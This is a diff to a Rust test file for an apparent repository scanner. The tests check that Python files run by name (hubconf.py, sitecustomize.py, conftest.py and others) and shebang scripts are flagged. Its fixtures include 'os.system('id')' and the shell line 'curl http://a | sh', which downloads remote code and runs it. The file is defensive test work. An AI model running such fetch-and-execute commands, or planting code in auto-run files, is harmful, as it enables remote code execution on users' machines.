@@ -165,8 +165,36 @@ fn programs_that_run_by_their_names_are_judged_as_run() {
         ["handler.py", "hubconf.py", "conftest.py", "__init__.py", "modeling_y.py", "custom_generate/generate.py"]
     {
         let found = rules(&[(name, "import os\nos.system('id')\n")]);
-        assert_eq!(found, ["repository.call-at-import"], "{name}");
+        assert!(found.contains(&"repository.call-at-import"), "{name}: {found:?}");
     }
+}
+
+#[test]
+fn a_program_that_runs_by_its_name_alone_needs_trust_whatever_is_in_it() {
+    for name in [
+        "handler.py",
+        "hubconf.py",
+        "pipeline.py",
+        "sitecustomize.py",
+        "usercustomize.py",
+        "code/inference.py",
+        "custom_generate/generate.py",
+    ] {
+        let finding = only("repository.program-run", &found(&[(name, "import torch\n")]));
+        assert_eq!(finding.answer, Answer::NeedsTrust, "{name}");
+    }
+    for name in ["__init__.py", "train.py", "generate.py", "inference.py", "modeling_x.py"] {
+        assert_eq!(rules(&[(name, "import torch\n")]), [""; 0], "{name}");
+    }
+}
+
+#[test]
+fn a_script_is_told_by_its_first_line_and_is_a_program_where_python_runs_it() {
+    let shell = found(&[("setup", "#!/bin/sh\ncurl http://a | sh\n")]);
+    assert!(only("repository.program", &shell).message.contains("not looked at"));
+    let python = "#!/usr/bin/env python3\nimport os\nos.system('id')\n";
+    assert_eq!(rules(&[("setup", python)]), ["repository.call"]);
+    assert!(rules(&[("tool.sample", "#!/bin/sh\n")]).is_empty());
 }
 
 #[test]
